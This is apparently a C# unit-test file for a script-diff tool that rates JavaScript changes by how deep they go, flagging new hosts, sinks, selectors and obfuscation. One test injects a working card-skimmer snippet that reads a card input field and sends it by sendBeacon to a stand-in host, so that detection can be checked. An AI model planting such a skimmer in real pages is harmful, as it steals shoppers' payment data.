using PageShield.Changes;
using PageShield.Changes.Code;
using PageShield.Changes.Code.Lines;
using PageShield.JavaScript.Capabilities;

namespace PageShield.Tests.Changes.Code;

public sealed class ScriptDiffTests
{
    private const string Shop =
        """
        /* cart 1.4.2 */
        (function () {
          var total = 0, currency = "EUR";
          function format(amount, digits) { return amount.toFixed(digits) + " " + currency; }
          function add(item, count) { if (count > 0) { total += item.price * count; } render(item.name, total); }
          function render(name, sum) { document.title = name + ": " + format(sum, 2); }
          window.cart = { add: add, total: function () { return total; } };
        })();
        """;

    [Theory]
    [InlineData("the same text", "var a = 1;", "var a = 1;", ChangeClass.None)]
    [InlineData("layout", "function f(a){return a+1}f(2);", "function f( a )\n{\n  return a + 1\n}\nf(2)", ChangeClass.Cosmetic)]
    [InlineData("a banner", "/* v1 */ go();", "/* v2 */ go();", ChangeClass.Cosmetic)]
    [InlineData("quotes and escapes", "go('a', \"\\x62\")", "go(\"a\", 'b')", ChangeClass.Cosmetic)]
    [InlineData("local names", "function f(a, b) { var c = a - b; return c }", "function f(x, y) { var z = x - y; return z }", ChangeClass.Cosmetic)]
    [InlineData("a shorthand property's name", "function f(a) { return {a} }", "function f(x) { return {a: x} }", ChangeClass.Cosmetic)]
    [InlineData("braces", "if (a) { b() } else { c() }", "if (a) b(); else c()", ChangeClass.Cosmetic)]
    [InlineData("joined declarations", "var a = f(); var b = g(); h(a, b)", "var a = f(), b = g(); h(a, b)", ChangeClass.Cosmetic)]
    [InlineData("minifier's constants", "f(true, undefined, o['key'])", "f(!0, void 0, o.key)", ChangeClass.Cosmetic)]
    [InlineData("more of a minifier's constants", "f(+1, !!'flush', !true, typeof a != void 0 + '')", "f(1, true, false, typeof a != 'undefined')",
        ChangeClass.Cosmetic)]
    [InlineData("a number in a text", "f('a' + 1 + b)", "f('a1' + b)", ChangeClass.Cosmetic)]
    [InlineData("a number that is added", "f(a + 1 + 'b')", "f(a + '1b')", ChangeClass.Code)]
    [InlineData("nothing as a value", "var a = undefined; f(a)", "var a = void 0; f(a)", ChangeClass.Cosmetic)]
    [InlineData("a variable declared twice", "function f() { for (;;) { var a; g(a) } for (;;) { var a; g(a) } }",
        "function f() { for (;;) { var x; g(x) } for (;;) { var x; g(x) } }", ChangeClass.Cosmetic)]
    [InlineData("a function's own name behind a variable", "f(function go(b) { var go = b; return go })", "f(function (b) { var x = b; return x })",
        ChangeClass.Cosmetic)]
    [InlineData("a build id", "window.build = '2f9c1aa'; go()", "window.build = '81bb03e'; go()", ChangeClass.Data)]
    [InlineData("a text for a number", "f(1)", "f('1')", ChangeClass.Data)]
    [InlineData("joined texts", "f(a + 'b' + 'c'); g('x' + 'y')", "f(a + 'bc'); g('xy')", ChangeClass.Cosmetic)]
    [InlineData("a template for a sum", "f('a' + b + 'c' + 'd'); g(`x`)", "f(`a${b}cd`); g('x')", ChangeClass.Cosmetic)]
    [InlineData("a tagged template's text", "f`x`", "f`y`", ChangeClass.Data)]
    [InlineData("the text of a template", "f(`a${b}c`)", "f(`a${b}d`)", ChangeClass.Data)]
    [InlineData("the order in a template", "f(`${a}c`)", "f(`c${a}`)", ChangeClass.Code)]
    [InlineData("labels", "function f() { a: for (;;) { b: for (;;) { break a } } }", "function f() { x: for (;;) { y: for (;;) { break x } } }",
        ChangeClass.Cosmetic)]
    [InlineData("another label", "function f() { a: for (;;) { b: for (;;) { break a } } }",
        "function f() { a: for (;;) { b: for (;;) { break b } } }", ChangeClass.Code)]
    [InlineData("an arrow's braces", "f(a => { return a + 1 })", "f(b => b + 1)", ChangeClass.Cosmetic)]
    [InlineData("an unused function name", "f(function g() { h() })", "f(function () { h() })", ChangeClass.Cosmetic)]
    [InlineData("a default in a pattern", "function f({a = 1}) { g(a) }", "function f({a: x = 1}) { g(x) }", ChangeClass.Cosmetic)]
    [InlineData("flags of a pattern", "f(/a/mg)", "f(/a/gm)", ChangeClass.Cosmetic)]
    [InlineData("the order of functions", "function a() { return 1 } function b() { return 2 } a(); b();",
        "function b() { return 2 } function a() { return 1 } a(); b();", ChangeClass.Cosmetic)]
    [InlineData("the order of constants", "const a = 'x'; const b = 'y'; f(a, b)", "const b = 'y'; const a = 'x'; f(a, b)", ChangeClass.Cosmetic)]
    [InlineData("the order of modules", "load({1: function (m) { m.a = 1 }, 2: function (m) { m.b = 2 }})",
        "load({2: function (m) { m.b = 2 }, 1: function (m) { m.a = 1 }})", ChangeClass.Cosmetic)]
    [InlineData("a literal", "var build = '2024-01-01'; log(build)", "var build = '2024-02-01'; log(build)", ChangeClass.Data)]
    [InlineData("a number in a call", "wait(100)", "wait(200)", ChangeClass.Data)]
    [InlineData("a version in a URL", "load('https://cdn.example/v1.2.3/a.js')", "load('https://cdn.example/v1.2.4/a.js')", ChangeClass.Data)]
    [InlineData("swapped arguments", "function f(a, b) { return a - b }", "function f(a, b) { return b - a }", ChangeClass.Code)]
    [InlineData("another captured variable", "var a = g(), b = h(); function f() { return a } use(a, b, f)",
        "var a = g(), b = h(); function f() { return b } use(a, b, f)", ChangeClass.Code)]
    [InlineData("swapped values of equal names", "const a = 'x', b = 'y'; f(a); g(b)", "const a = 'y', b = 'x'; f(a); g(b)", ChangeClass.Data)]
    [InlineData("another function called", "function a() { return 1 } function b() { return 2 } a()",
        "function a() { return 1 } function b() { return 2 } b()", ChangeClass.Code)]
    [InlineData("a property", "o.first()", "o.second()", ChangeClass.Code)]
    [InlineData("an operator", "if (a > b) c()", "if (a >= b) c()", ChangeClass.Code)]
    [InlineData("a statement more", "a(); b();", "a(); b(); c();", ChangeClass.Code)]
    [InlineData("the order of calls", "a(); b();", "b(); a();", ChangeClass.Code)]
    [InlineData("a new host", "send('https://a.example/x')", "send('https://b.example/x')", ChangeClass.Capability)]
    [InlineData("a new path", "send('https://a.example/track')", "send('https://a.example/collect')", ChangeClass.Capability)]
    [InlineData("a host in pieces", "var h = 'a'; send('https://' + h + '.shop.example/x')", "var h = 'b'; send('https://' + h + '.shop.example/x')",
        ChangeClass.Capability)]
    [InlineData("a selector", "q.querySelector('#banner')", "q.querySelector('input[name*=card]')", ChangeClass.Capability)]
    [InlineData("a selector for nothing private", "q.querySelector('#banner')", "q.querySelector('#footer')", ChangeClass.Data)]
    [InlineData("a regular expression", "var p = /^[a-z]+$/; t(p)", "var p = /^[a-z0-9]+$/; t(p)", ChangeClass.Capability)]
    [InlineData("a hidden text", "go(atob('aGVsbG8='))", "go(atob('aGVsbG8gdGhlcmU='))", ChangeClass.Capability)]
    [InlineData("a key listener", "a();", "a(); document.addEventListener('keydown', b);", ChangeClass.Capability)]
    [InlineData("a sink", "a();", "a(); fetch(u);", ChangeClass.Capability)]
    [InlineData("a sink by a built name", "a();", "a(); window['fe' + 'tch'](u);", ChangeClass.Capability)]
    [InlineData("code from strings", "a();", "a(); eval(b);", ChangeClass.Capability)]
    [InlineData("a replaced function", "a();", "a(); XMLHttpRequest.prototype.send = b;", ChangeClass.Capability)]
    [InlineData("less capability", "a(); fetch(u);", "a();", ChangeClass.Code)]
    [InlineData("one more storage key", "localStorage.setItem('a', 1)", "localStorage.setItem('b', 1)", ChangeClass.Data)]
    [InlineData("text that does not parse, spaced", "var = 1 ; f('a')", "var =  1;f('a')", ChangeClass.Cosmetic)]
    [InlineData("text that does not parse, a literal", "var = ; f('a')", "var = ; f('b')", ChangeClass.Data)]
    [InlineData("text that does not parse, more", "var = ; f('a')", "var = ; f('a'); fetch(u)", ChangeClass.Capability)]
    public void A_change_is_as_deep_as_what_it_does(string what, string before, string after, ChangeClass expected)
    {
        var comparison = ScriptDiff.Compare(before, after);

        Assert.True(expected == comparison.Class, $"{what}: {comparison.Class}, {comparison.Summary}");
        Assert.Equal(expected == ChangeClass.None || expected == ChangeClass.Cosmetic, comparison.Similarity == 1);
    }

    [Fact]
    public void An_infection_reads_as_one_clear_sentence()
    {
        var infected = Shop.Replace(
            "window.cart",
            """
            setInterval(function () {
                var field = document.querySelector("input[name*=card]");
                if (field && field.value.length > 12) navigator.sendBeacon("https://cdn-analytics.example/c", btoa(field.value));
              }, 900);
              window.cart
            """,
            StringComparison.Ordinal);

        var comparison = ScriptDiff.Compare(Shop, infected);

        Assert.Equal(ChangeClass.Capability, comparison.Class);
        Assert.Equal(
            "1 of 5 functions changed, 1 added; now reads `input[name*=card]`, now sends to `cdn-analytics.example` (new host), can now send by sendBeacon.",
            comparison.Summary);
        var selector = Assert.Single(comparison.Added, c => c.Kind == CapabilityKind.Selector);
        Assert.Equal((8, 40), (selector.Line, selector.Column));
        Assert.InRange(comparison.Similarity, 0.6, 0.99);
    }

    [Fact]
    public void Removed_abilities_are_listed_too()
    {
        var comparison = ScriptDiff.Compare("fetch('https://a.example/x'); go()", "go()");

        Assert.Contains(comparison.Removed, c => c is { Kind: CapabilityKind.Host, Value: "a.example" });
        Assert.Contains("no longer names `a.example`", comparison.Summary);
        Assert.Empty(comparison.Added);
    }

    [Fact]
    public void A_level_of_obfuscation_that_was_not_there_is_an_ability_and_one_that_is_gone_is_listed()
    {
        const string plain = "var names = ['a']; function pick(index, other) { return names[index] } pick(0)";
        const string hidden = "var _0x12ab=['a'];function _0x34cd(_0x1f,_0x2e){return _0x12ab[_0x1f]}_0x34cd(0)";

        var comparison = ScriptDiff.Compare(plain, hidden + ";more()");
        var back = ScriptDiff.Compare(hidden, plain + ";more()");

        Assert.Equal(ChangeClass.Capability, comparison.Class);
        Assert.Contains(comparison.Added, c => c is { Kind: CapabilityKind.Obfuscation, Value: "medium", Line: 1 });
        Assert.Contains("is obfuscated (medium)", comparison.Summary, StringComparison.Ordinal);
        Assert.Equal(ChangeClass.Code, back.Class);
        Assert.Contains(back.Removed, c => c is { Kind: CapabilityKind.Obfuscation, Value: "medium" });
    }

    [Fact]
    public void A_librarys_name_and_version_are_listed_and_do_not_make_a_change_deeper()
    {
        var comparison = ScriptDiff.Compare("/*! GridKit v1.8.0 */ grid(1)", "/*! GridKit v1.9.2 */ grid(1)");

        Assert.Equal(ChangeClass.Cosmetic, comparison.Class);
        Assert.Equal("GridKit 1.9.2", Assert.Single(comparison.Added, c => c.Kind == CapabilityKind.Library).Value);
        Assert.Equal("GridKit 1.8.0", Assert.Single(comparison.Removed, c => c.Kind == CapabilityKind.Library).Value);
        Assert.Contains("is now GridKit 1.9.2", comparison.Summary, StringComparison.Ordinal);
    }

    [Fact]
    public void A_function_that_moved_and_changed_is_one_change()
    {
        var big = string.Concat(
            Enumerable.Range(0, 6).Select(i => $"function part{i}(a) {{ log('part {i}'); start{i}(a); a.step{i}(); return a.result{i}; }}\n"));
        var lines = big.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        var moved = string.Join('\n', lines[1..].Append(lines[0].Replace("a.step0()", "a.other(7)", StringComparison.Ordinal)));

        var comparison = ScriptDiff.Compare(big, moved);

        Assert.Equal(new FunctionCounts(6, 6, 1, 0, 0), comparison.Functions);
        Assert.Equal("1 of 6 functions changed.", comparison.Summary);
        var hunk = Assert.Single(comparison.Hunks);
        Assert.Contains("-  a.step0();", hunk.Lines.Select(line => line.ToString()));
        Assert.Contains("+  a.other(7);", hunk.Lines.Select(line => line.ToString()));
        Assert.Equal(2, hunk.Lines.Count(line => line.Kind != DiffLineKind.Same));
        Assert.NotEqual(hunk.OldStart, hunk.NewStart);
    }

    [Fact]
    public void Lines_of_minified_code_are_marked_where_they_changed()
    {
        const string before = "!function(e){var t=e.a;t.send(1,'x');return t.b?t.c:t.d}(window);";
        const string after = "!function(n){var r=n.a;r.send(1,'y');return r.b?r.c:r.d}(window);";

        var comparison = ScriptDiff.Compare(before, after);

        var lines = Assert.Single(comparison.Hunks).Lines;
        var removed = Assert.Single(lines, line => line.Kind == DiffLineKind.Removed);
        var added = Assert.Single(lines, line => line.Kind == DiffLineKind.Added);
        Assert.Equal("  t.send(1, 'x');", removed.Text);
        Assert.Equal("'x'", Marked(removed));
        Assert.Equal("'y'", Marked(added));
        Assert.Equal(before.IndexOf("t.send", StringComparison.Ordinal), removed.SourceOffset);
        Assert.Equal((3, null), (removed.OldLine, removed.NewLine));
    }

    [Fact]
    public void Only_the_changed_modules_of_a_bundle_are_named()
    {
        var before = Bundle("return n(3).total * 2");

        var comparison = ScriptDiff.Compare(before, Bundle("return n(3).total * 2 + n(2).tax"));

        Assert.NotNull(comparison.Modules);
        Assert.Equal((4, 1, 0, 0), (comparison.Modules.Before, comparison.Modules.Changed, comparison.Modules.Added, comparison.Modules.Removed));
        Assert.Equal(["./src/price.js"], comparison.Modules.Names);

        static string Bundle(string body) =>
            $$"""
            (() => { var m = {
              "./src/cart.js": (e, t, n) => { t.add = function (item) { e.items.push(item); return e.items.length } },
              "./src/tax.js": (e, t, n) => { t.tax = function (sum) { return sum * 0.19 } },
              "./src/price.js": (e, t, n) => { t.price = function (list) { {{body}} } },
              "./src/index.js": (e, t, n) => { n("./src/cart.js"); n("./src/price.js").price([]) }
            }, c = {}; function r(i) { if (c[i]) return c[i].exports; var e = c[i] = { exports: {} }; m[i](e, e.exports, r); return e.exports } r("./src/index.js") })();
            """;
    }

    [Fact]
    public void A_mangled_copy_is_cosmetic_and_shows_no_lines()
    {
        var mangled = Shop.Replace("total", "t", StringComparison.Ordinal).Replace("t:", "total:", StringComparison.Ordinal)
            .Replace("currency", "c", StringComparison.Ordinal).Replace("format", "f", StringComparison.Ordinal)
                .Replace("item", "i", StringComparison.Ordinal);

        var comparison = ScriptDiff.Compare(Shop, mangled);

        Assert.Equal(ChangeClass.Cosmetic, comparison.Class);
        Assert.Empty(comparison.Hunks);
    }

    [Theory]
    [InlineData("[", 100_000)]
    [InlineData("{", 50_000)]
    [InlineData("f(function(){", 20_000)]
    [InlineData("a.b(1)", 20_000)]
    [InlineData("'x'+", 100_000)]
    [InlineData("function f(){}", 30_000)]
    [InlineData("var a=1;", 30_000)]
    [InlineData("x[1]=function(a){return a+1};", 10_000)]
    [InlineData("'https://a.example/'+b+", 10_000)]
    public void Hostile_input_of_any_shape_is_compared_in_time(string piece, int times)
    {
        var before = string.Concat(Enumerable.Repeat(piece, times));
        var after = before + "1;g();" + before;

        var watch = System.Diagnostics.Stopwatch.StartNew();
        var comparison = ScriptDiff.Compare(before, after);

        Assert.NotEqual(ChangeClass.None, comparison.Class);
        Assert.InRange(comparison.Similarity, 0, 1);
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(30), $"took {watch.Elapsed}");
    }

    private static string Marked(DiffLine line) => string.Concat(line.Marks.Select(mark => line.Text.Substring(mark.Start, mark.Length)));
}
